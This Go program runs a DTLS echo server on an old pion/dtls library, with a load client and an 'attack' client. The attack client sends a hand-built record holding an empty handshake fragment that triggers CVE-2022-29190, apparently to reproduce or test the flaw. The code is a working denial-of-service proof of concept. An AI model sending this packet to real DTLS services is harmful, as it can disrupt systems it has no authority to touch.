// Command dtls is an echo server on an old github.com/pion/dtls/v2, and its clients.
//
//	dtls serve ADDR      echoes; a TCP connection to ADDR is accepted and closed
//	dtls load ADDR       for each line on stdin: connect, send it, check the echo
//	dtls attack ADDR     for each line on stdin: a handshake fragment of no bytes (CVE-2022-29190)
//
// The clients answer each line with "ok" or what went wrong.
package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"runtime/debug"
	"time"

	"github.com/pion/dtls/v2"
	"github.com/pion/udp"
)

const patience = 5 * time.Second

func main() {
	if len(os.Args) != 3 {
		log.Fatal("usage: dtls serve|load|attack ADDR")
	}
	addr := os.Args[2]
	switch os.Args[1] {
	case "serve":
		log.Fatal(serve(addr))
	case "load":
		eachLine(func(line string) error { return echo(addr, line) })
	case "attack":
		eachLine(func(line string) error { return attack(addr, line) })
	}
}

// config has a shared secret: a handshake without certificates, which is fast.
func config() *dtls.Config {
	return &dtls.Config{
		PSK:             func([]byte) ([]byte, error) { return []byte("secret"), nil },
		PSKIdentityHint: []byte("load"),
		CipherSuites:    []dtls.CipherSuiteID{dtls.TLS_PSK_WITH_AES_128_GCM_SHA256},
	}
}

func serve(addr string) error {
	// A full stack of Go's usual limit takes a gigabyte.
	debug.SetMaxStack(64 << 20)
	at, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return err
	}
	clients, err := udp.Listen("udp", at)
	if err != nil {
		return err
	}
	ready, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	go func() {
		for {
			if c, err := ready.Accept(); err == nil {
				c.Close()
			}
		}
	}()
	for {
		conn, err := clients.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer conn.Close()
			ctx, cancel := context.WithTimeout(context.Background(), patience)
			defer cancel()
			session, err := dtls.ServerWithContext(ctx, conn, config())
			if err != nil {
				return
			}
			defer session.Close()
			io.Copy(session, session)
		}()
	}
}

func eachLine(do func(line string) error) {
	for in := bufio.NewScanner(os.Stdin); in.Scan(); {
		if err := do(in.Text()); err != nil {
			fmt.Printf("%q\n", err)
		} else {
			fmt.Println("ok")
		}
	}
}

func echo(addr, line string) error {
	conn, err := net.Dial("udp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	session, err := dtls.ClientWithContext(ctx, conn, config())
	if err != nil {
		return err
	}
	defer session.Close()
	session.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(session, line); err != nil {
		return err
	}
	answer := make([]byte, 1024)
	n, err := session.Read(answer)
	if err == nil && string(answer[:n]) != line {
		err = fmt.Errorf("%q came back as %q", line, answer[:n])
	}
	return err
}

// attack sends the first fragment of a ClientHello, without any of its 90 bytes,
// and wants the next client served.
func attack(addr, line string) error {
	conn, err := net.Dial("udp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	record := []byte{22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 12}
	fragment := []byte{1, 0, 0, 90, 0, 0, 0, 0, 0, 0, 0, 0}
	if _, err := conn.Write(append(record, fragment...)); err != nil {
		return err
	}
	return echo(addr, line)
}
